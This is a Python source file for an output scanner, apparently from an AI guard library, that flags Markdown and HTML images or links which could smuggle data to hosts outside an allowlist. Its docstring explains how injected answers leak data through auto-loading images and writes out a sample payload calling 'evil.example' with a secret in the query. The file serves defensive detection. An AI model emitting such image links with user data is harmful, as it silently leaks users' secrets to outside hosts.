"""Data exfiltration through images and links in answers (scanner ``exfil``).

A chat UI that renders Markdown fetches an image as soon as it shows the answer, so an
injected ``![](https://evil.example/p.png?d=<secret>)`` sends data out without a click.
Kinds:

- ``exfil.image``: a Markdown or HTML image on a host not in ``allowed_hosts`` whose URL
  has a query or fragment, or a path segment that looks like data.
- ``exfil.link``: a Markdown link or bare URL to such a host whose query or fragment
  carries a data-like value (long, base64- or hex-like, an e-mail address, a long number,
  or a guard placeholder such as ``[EMAIL_1]`` that would be filled in on the way out).

``allowed_hosts`` entries match the host and its subdomains. Relative URLs never hit.
An image whose URL is still open at the end of the text (no closing ``)`` yet) is a hit
too: a streamed image is held back whole until its URL is complete and can be judged,
however long its path.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import Any
from urllib.parse import parse_qsl, unquote_plus, urlsplit

from airlock.guard._options import Options, limit_hits
from airlock.guard.base import GuardContext, Hit
from airlock.guard.registry import register
from airlock.scan.remote_code import shannon_entropy as entropy

_MD = re.compile(r"(?P<img>!?)\[[^\]\n]{0,500}\]\(\s{0,8}<?(?P<url>[^)\s>]{1,4096})>?\)?")
_HTML_IMG = re.compile(r"<img\b[^>]{0,500}?\bsrc\s*=\s*[\"']?(?P<url>[^\"'\s>]{1,4096})", re.I)
_BARE = re.compile(r"\b(?:https?|ftp)://[^\s)\]>\"'<`]{1,4096}", re.I)
_PLACEHOLDER = re.compile(r"\[[A-Z][A-Z0-9_]{0,30}_\d{1,6}")  # "]" may end the bare URL
_TOKEN = re.compile(r"[A-Za-z0-9+/=_-]{20,}")
_EMAIL = re.compile(r"[^@\s]{1,64}@[^@\s.]{1,63}\.[A-Za-z]{2,}")
_LONG_NUMBER = re.compile(r"\d{9,}")
_DATA_SEGMENT = re.compile(r"[A-Za-z0-9+=_-]{24,}|%[0-9A-Fa-f]{2}.*%[0-9A-Fa-f]{2}")


def _host_allowed(host: str, allowed: Iterable[str]) -> bool:
    host = host.lower().rstrip(".")
    return any(host == a or host.endswith("." + a) for a in allowed)


def data_like(value: str) -> bool:
    """Whether a URL parameter value looks like data being carried out."""
    text = unquote_plus(value)
    if len(text) >= 64 or _PLACEHOLDER.search(text) or _EMAIL.search(text):
        return True
    if _LONG_NUMBER.search(text):
        return True
    return any(entropy(t) >= 3.5 for t in _TOKEN.findall(text))


def _query_values(query: str) -> list[str]:
    pairs = parse_qsl(query, keep_blank_values=True)
    return [v for _, v in pairs] or [query]


class _Url:
    """One URL split into the parts the rules look at (None parts when it is relative)."""

    def __init__(self, raw: str) -> None:
        try:
            parts = urlsplit(raw.strip("<>"))
            self.host = (parts.hostname or "").lower()
        except ValueError:
            parts, self.host = urlsplit(""), ""
        self.path, self.query, self.fragment = parts.path, parts.query, parts.fragment


@register("exfil")
class ExfilScanner:
    """Images and links that could carry data to hosts outside the allowlist."""

    name: str = "exfil"
    stages: tuple[str, ...] = ("output",)

    def __init__(self, options: Mapping[str, Any]) -> None:
        opts = Options(self.name, options)
        self.allowed = tuple(h.lower().strip(".") for h in opts.strings("allowed_hosts"))
        opts.done()

    def scan(self, text: str, ctx: GuardContext | None = None) -> list[Hit]:
        """Hits for each image or link that fits a rule above."""
        if "//" not in text:
            return []
        hits: list[Hit] = []
        covered: list[tuple[int, int]] = []
        for m in _MD.finditer(text):
            covered.append(m.span())
            open_ = not m.group().endswith(")")
            kind = self._judge(m["url"], image=bool(m["img"]), open_=open_)
            if kind:
                hits.append(Hit(kind, m.start(), m.end()))
        if "<img" in text or "<IMG" in text:
            for m in _HTML_IMG.finditer(text):
                covered.append(m.span())
                if self._judge(m["url"], image=True, open_=m.end() == len(text)):
                    hits.append(Hit("exfil.image", m.start(), m.end()))
        for m in _BARE.finditer(text):
            if not any(s <= m.start() < e for s, e in covered) and self._judge(m.group(), False):
                hits.append(Hit("exfil.link", m.start(), m.end()))
        return limit_hits(sorted(hits, key=lambda h: h.start))

    def _judge(self, raw: str, image: bool, open_: bool = False) -> str:
        url = _Url(raw)
        if not url.host or _host_allowed(url.host, self.allowed):
            return ""
        if image:
            if open_ or url.query or url.fragment or _DATA_SEGMENT.search(url.path):
                return "exfil.image"
            return ""
        values = _query_values(url.query) if url.query else []
        if any(data_like(v) for v in [*values, url.fragment] if v):
            return "exfil.link"
        return ""
